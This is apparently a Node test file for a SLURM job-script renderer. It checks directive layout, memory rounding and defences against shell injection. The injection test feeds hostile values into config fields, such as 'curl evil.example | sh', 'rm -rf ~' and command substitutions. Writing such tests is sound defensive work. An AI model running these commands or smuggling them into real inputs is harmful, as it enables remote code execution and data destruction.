// Job script rendering against dask-jobqueue's layout and the tutorial's parameters.
import { test } from "node:test";
import assert from "node:assert/strict";
import { resolveJobOptions, type JobQueueOptions } from "../../src/cluster/jobqueue/options.js";
import { renderJobScript, renderWorkerCommand } from "../../src/cluster/jobqueue/script.js";
import { JobQueueConfigError } from "../../src/cluster/jobqueue/errors.js";
import { spawnSync } from "node:child_process";
import { slurm, slurmFormatBytesCeil } from "../../src/cluster/slurm/slurm-system.js";

const ctx = { defaultName: "SLURMCluster", defaultCommand: "/usr/bin/node" };
const ENTRY = "/opt/tessera/dist/src/cli/main.js";
const render = (o: JobQueueOptions, name = "SLURMCluster-0") =>
  renderJobScript(slurm, resolveJobOptions(o, {}, ctx), { schedulerAddress: "tcp://10.1.2.3:41234", workerName: name, workerEntry: ENTRY });

test("tutorial parameters: cores 40, processes 2, memory 120GB", () => {
  const s = render({ cores: 40, processes: 2, memory: "120GB", queue: "short", walltime: "01:00:00", logDirectory: "logs", localDirectory: "$TMPDIR" });
  assert.equal(
    s,
    [
      "#!/usr/bin/env bash",
      "",
      "#SBATCH -J tessera-worker",
      "#SBATCH -e logs/tessera-worker-%J.err",
      "#SBATCH -o logs/tessera-worker-%J.out",
      "#SBATCH -p short",
      "#SBATCH -n 1",
      "#SBATCH -N 1",
      "#SBATCH --cpus-per-task=40",
      "#SBATCH --mem=112G",
      "#SBATCH -t 01:00:00",
      "",
      `/usr/bin/node ${ENTRY} worker tcp://10.1.2.3:41234 --name SLURMCluster-0 --nthreads 20 --memory-limit 55.88GiB --nworkers 2 --nanny --death-timeout 60 --local-directory "$TMPDIR"`,
      "",
    ].join("\n"),
  );
});

test("account, command prefix, extra/skip directives, prologue, epilogue, extra args, interface", () => {
  const s = render({
    cores: 8,
    memory: "28GB",
    processes: 4,
    account: "proj1",
    command: "singularity exec img.sif node",
    jobExtraDirectives: ["--exclusive", "--qos=high"],
    jobDirectivesSkip: ["--mem", "-t "],
    jobScriptPrologue: ["module load node", "source env.sh"],
    jobScriptEpilogue: ["echo done"],
    workerExtraArgs: ["--lifetime", "55m", "--lifetime-stagger", "4m"],
    interface: "ib0",
    nanny: false,
    deathTimeout: "2m",
    shebang: "#!/bin/bash -l",
    jobName: "mywork",
  });
  const lines = s.split("\n");
  assert.equal(lines[0], "#!/bin/bash -l");
  assert.ok(lines.includes("#SBATCH -A proj1"));
  assert.ok(!lines.some((l) => l.startsWith("#SBATCH --mem")), "--mem is skipped");
  assert.ok(!lines.some((l) => l.startsWith("#SBATCH -t")), "-t is skipped");
  assert.ok(!lines.some((l) => l.startsWith("#SBATCH -e")), "no log directory → no -e/-o");
  const extra = lines.indexOf("#SBATCH --exclusive");
  assert.ok(extra > lines.indexOf("#SBATCH --cpus-per-task=8"), "extra directives come after generated ones");
  assert.equal(lines[extra + 1], "#SBATCH --qos=high");
  assert.equal(lines[extra + 2], "module load node");
  assert.equal(lines[extra + 3], "source env.sh");
  assert.equal(
    lines[extra + 4],
    `singularity exec img.sif node ${ENTRY} worker tcp://10.1.2.3:41234 --name SLURMCluster-0 --nthreads 2 --memory-limit 6.52GiB --nworkers 4 --no-nanny --death-timeout 120 --lifetime 55m --lifetime-stagger 4m --interface ib0`,
  );
  assert.equal(lines[extra + 5], "echo done");
});

test("one process per job: no --nworkers; default walltime 00:30:00; secret never in the script", () => {
  const s = render({ cores: 1, memory: "2GiB" });
  assert.ok(s.includes("--nthreads 1 --memory-limit 2.00GiB --nanny"));
  assert.ok(!s.includes("--nworkers"));
  assert.ok(s.includes("#SBATCH -t 00:30:00"));
  assert.ok(s.includes("#SBATCH --mem=2G"));
  assert.ok(!/secret/i.test(s));
});

test("slurmFormatBytesCeil rounds up to whole binary units", () => {
  assert.equal(slurmFormatBytesCeil(120e9), "112G");
  assert.equal(slurmFormatBytesCeil(28e9), "27G");
  assert.equal(slurmFormatBytesCeil(2 * 1024 ** 3), "2G");
  assert.equal(slurmFormatBytesCeil(4e9), "4G");
  assert.equal(slurmFormatBytesCeil(500e6), "477M");
  assert.equal(slurmFormatBytesCeil(2000), "2K");
  assert.equal(slurmFormatBytesCeil(10), "1K");
});

test("job-script injection: newlines and NUL in directives are refused; worker-command values are quoted; $VAR kept where documented", () => {
  const base = { cores: 2, memory: "4GB", processes: 1 };
  const resolve = (o: Record<string, unknown>) => resolveJobOptions({ ...base, ...o } as JobQueueOptions, {}, ctx);
  for (const [name, value] of [
    ["queue", "debug\ncurl evil.example | sh"],
    ["account", "proj\r\nrm -rf ~"],
    ["jobMem", "4G\0"],
    ["logDirectory", "/tmp/logs\ntouch /tmp/pwned"],
    ["jobExtraDirectives", ["--exclusive\ntouch /tmp/pwned"]],
    ["jobScriptPrologue", ["module load x\ntouch /tmp/pwned"]],
    ["jobName", "w\nx"],
  ] as const) {
    assert.throws(() => resolve({ [name]: value }), (e: Error) => e instanceof JobQueueConfigError && new RegExp(`^${name}(\\[0\\])?: .*(a newline|a carriage return|a NUL byte)`).test(e.message), name);
  }
  assert.throws(() => resolve({ localDirectory: "$(touch /tmp/pwned)" }), /command substitution/);
  assert.throws(() => resolve({ workerExtraArgs: ["`id`"] }), /command substitution/);
  assert.throws(() => resolve({ command: "node\ntouch /tmp/pwned" }), /command: .*a newline/);
  const opts = resolve({ localDirectory: "/scratch/$USER/my dir", interface: "ib0; touch /tmp/pwned", workerExtraArgs: ["--resources", "GPU=1 x"], command: "$HOME/bin/node --max-old-space-size=4096" });
  const cmd = renderWorkerCommand(opts, { schedulerAddress: "tcp://10.0.0.1:8786", workerName: "w-0", workerEntry: "/opt/t/main.js" });
  assert.equal(
    cmd,
    `$HOME/bin/node --max-old-space-size=4096 /opt/t/main.js worker tcp://10.0.0.1:8786 --name w-0 --nthreads 2 --memory-limit 3.73GiB --nanny --death-timeout 60 ` +
      `--local-directory "/scratch/$USER/my dir" --resources "GPU=1 x" --interface 'ib0; touch /tmp/pwned'`,
  );
  // the shell reads it as intended: $USER expanded, the rest literal words
  const words = spawnSync("bash", ["-c", `USER=alice HOME=/h; set -- ${cmd.replace(/^\S+ /, "")}; printf '%s\\n' "$@"`], { encoding: "utf8" }).stdout.trim().split("\n");
  assert.ok(words.includes("/scratch/alice/my dir"), words.join(" | "));
  assert.ok(words.includes("ib0; touch /tmp/pwned"));
  assert.ok(words.includes("GPU=1 x"));
});
